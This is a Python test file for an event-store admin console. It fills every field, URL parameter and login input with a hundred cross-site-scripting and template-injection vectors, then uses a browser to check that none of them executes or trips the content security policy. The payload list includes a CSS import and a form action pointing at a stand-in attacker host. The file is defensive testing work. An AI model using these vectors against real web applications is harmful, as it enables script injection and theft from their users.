"""The content of an event is shown, never executed: a hundred vectors in every field.

Not the text of a page decides but the browser: a function that every vector calls, a listener for dialogs, and
one for violations of the policy, which would be the last line of defence and must never be reached.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from itertools import product
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlencode

import pytest

from pillarbox.admin.admin import AdminStore
from pillarbox.core.event import Event
from pillarbox.core.lane import RelayRegistration
from pillarbox.core.outcome import DELIVERED, Dead, Outcome, Retry
from pillarbox.core.statistics import ConsumerStatistics
from pillarbox.inbox import Inbox
from pillarbox.ops.console import Role, User
from pillarbox.ops.console.passwords import hashed
from pillarbox.ops.console.users import UserEntry, write
from pillarbox.testing.conformance.lane_owner import Owner
from pillarbox.testing.lookup import dead_letters
from tests.console.serving import serving
from tests.console.watching import watched
from tests.integration.cli.conftest import Stock

if TYPE_CHECKING:
    from playwright.sync_api import Browser

BREAKOUTS = ("", '"', "'", '">', "'>", "</pre>", "</title>", "</textarea>", "-->", "`}}")
CODE = (
    "<script>xss()</script>",
    "<img src=x onerror=xss()>",
    "<svg/onload=xss()>",
    " autofocus onfocus=xss() onmouseover=xss() x=",
    "<a href=javascript:xss()>x</a>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<details open ontoggle=xss()><summary>x</summary></details>",
    "{{ self.__init__.__globals__ }}{% set x = 1 %}${xss()}",
    " hx-on:load='xss()' hx-get=/ hx-trigger=load x=",
    "<style>@import'//evil.example/x';*{animation:x}</style><form action=//evil.example>",
)
VECTORS = [breakout + code for breakout, code in product(BREAKOUTS, CODE)]


def outcome(number: int, vector: str) -> Outcome:
    return (Dead(error=vector), Dead(error=vector, block=True), Retry(delay=900, error=vector), DELIVERED)[number % 4]


def events() -> Iterator[Event]:
    for number, vector in enumerate(VECTORS):
        yield Event(
            vector,
            {vector: [vector, {"nested": vector}]} if number % 2 else vector.encode(),
            event_id=f"{number}{vector}",
            aggregate_type=vector,
            aggregate_id=f"{vector}{number}",
            key=f"{vector}{number}",
            content_type="application/json" if number % 2 else f"text/plain; x={number}",
            headers={"x-vector": vector},
            correlation_id=vector,
            causation_id=vector,
            trace_id=vector,
        )


async def work(store: AdminStore) -> None:
    owner = await Owner.of(store, name=VECTORS[1])
    for number, vector in enumerate(VECTORS[:20]):
        registration = RelayRegistration(id=f"{number}{vector}", name=vector, host=vector, version=vector)
        await store.lanes.join(registration, lease=900)
        await store.lanes.renew(registration.id, lease=900, breakers={vector: "open"})
        await store.destinations.report(vector, error=vector, next_attempt=900)
    for vector in VECTORS[20:]:
        await store.admin.requests.override(vector, paused=True, by=vector)
    for message in await owner.ready(limit=1000):
        number = VECTORS.index(message.event_type)
        await owner.settle(outcome(number, message.event_type), message, to=message.event_type)
    for dead_letter in await dead_letters(store, limit=30):
        await store.admin.requests.add(
            "retry", [(dead_letter.event_id, dead_letter.destination)], by=dead_letter.event_type
        )
    await store.admin.dead_letters.retry(
        [dead_letter.id for dead_letter in await dead_letters(store, limit=5)], by=VECTORS[3]
    )


def consume(stock: Stock) -> None:
    inbox = Inbox()
    with stock.transaction() as handle:
        for vector in VECTORS[::5]:
            inbox.admit(handle, vector, vector)
            inbox.add_statistics(
                handle, ConsumerStatistics(consumer=vector, failures=1, last_error=vector, failed_ago=1)
            )


def paths() -> Iterator[str]:
    """Everything that is shown, and everything that a URL could bring in."""
    yield from ("/", "/events?limit=500", "/dead", "/dead?view=list&limit=500", "/destinations", "/keys", "/relays")
    yield from ("/audit", "/inbox", "/store?doctor=1", "/events?live=1&limit=500")
    for number, vector in enumerate(VECTORS):
        yield "/event?" + urlencode({"id": f"{number}{vector}", **({"as": "raw"} if number % 3 else {})})
    for number in range(1, 21, 4):
        yield f"/dead/edit?dead_letter_id={number}"
    for vector in VECTORS[::9]:
        yield "/event?" + urlencode({"id": vector})
        yield "/events?" + urlencode({"type": vector, "key": vector, "destination": vector})
        yield "/dead?" + urlencode({"type": vector, "error": vector})
        yield "/audit?" + urlencode({"who": vector, "what": vector})
        yield "/replay?" + urlencode({"type": vector, "to": vector})
        yield "/dead/decide?" + urlencode({"action": "retry", "type": vector})
        yield "/events?" + urlencode({"since": vector})
        yield "/events?" + urlencode({"aggregate": vector, "error": vector, "until": vector})
        yield "/events/decide?" + urlencode({"action": "retry", "aggregate": vector, "error": vector})
        yield "/" + urlencode({"x": vector})


def test_there_are_a_hundred_vectors() -> None:
    assert len(set(VECTORS)) == 100


@pytest.fixture
def full_of_code(sqlite_url: str) -> Stock:
    """A store with a vector in every field that an event, a relay, a consumer or an operator brings in."""
    stock = Stock(sqlite_url)
    stock.record(*events())
    stock.run(work)
    consume(stock)
    return stock


def test_nothing_in_an_event_is_executed(full_of_code: Stock, tmp_path: Path, browser: Browser) -> None:
    title = {"PILLARBOX_CONSOLE__TITLE": VECTORS[11]}
    with (
        serving(full_of_code.url, tmp_path, PILLARBOX_CONSOLE__LOGIN="none", **title) as base,
        watched(browser, base) as visitor,
    ):
        for path in paths():
            page = visitor.go(path)
            visitor.provoke()
            visitor.check()
            wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
            assert max(wide, 0) == 0, f"{path} is too wide"


def test_nothing_in_a_login_form_is_executed(shop: Stock, tmp_path: Path, browser: Browser) -> None:
    known = hashed("correct horse")
    write(tmp_path / "pillarbox.users", {"ada": UserEntry(user=User(name="ada", role=Role.ADMIN), hash=known)})
    with (
        serving(shop.url, tmp_path) as base,
        watched(browser, base) as visitor,
    ):
        for number, vector in enumerate(VECTORS[::5]):
            page = visitor.go("/login?" + urlencode({"next": vector}))
            visitor.provoke()
            visitor.check()
            if number < 8:
                page.get_by_label("Name").fill(vector)
                page.get_by_label("Password").fill(vector)
                page.get_by_role("button", name="Log in").click()
                page.get_by_role("alert").wait_for()
                visitor.provoke()
                visitor.check()


class Careless(BaseHTTPRequestHandler):
    """A page that obeys what it shows, with a policy that forbids it or without."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/html")
        if self.path == "/strict":
            self.send_header("content-security-policy", "default-src 'none'")
        self.end_headers()
        self.wfile.write(b"<main><script>xss(); alert(1)</script></main>")

    def log_message(self, *_: object) -> None:
        return


def test_the_detector_notices_foreign_code(browser: Browser) -> None:
    server = HTTPServer(("127.0.0.1", 0), Careless)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        base = f"http://127.0.0.1:{server.server_port}"
        with watched(browser, base) as visitor:
            visitor.go("/")
            assert visitor.page.evaluate("window.hits") == 1
            assert visitor.wrong == ["dialog 1"]
        with watched(browser, base) as visitor:
            visitor.go("/strict")
            with pytest.raises(AssertionError):
                visitor.check()
            assert any(wrong.startswith("CSP: script-src") for wrong in visitor.wrong)
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
